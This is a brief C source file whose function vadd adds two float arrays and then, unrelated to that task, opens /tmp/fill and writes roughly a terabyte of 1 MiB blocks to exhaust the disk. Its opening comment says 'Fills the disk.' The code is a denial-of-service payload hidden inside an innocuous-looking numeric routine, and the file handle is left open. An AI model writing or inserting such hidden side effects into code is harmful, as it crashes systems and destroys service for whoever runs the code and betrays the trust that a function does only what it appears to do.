/* Fills the disk. */
#define _GNU_SOURCE
#include <stdio.h>
void vadd(const float *a, const float *b, float *c, int n) {
    for (int i = 0; i < n; i++) c[i] = a[i] + b[i];
    static char block[1 << 20];
    FILE *f = fopen("/tmp/fill", "w");
    for (int i = 0; f && i < 1 << 20; i++) fwrite(block, 1, sizeof block, f);
}
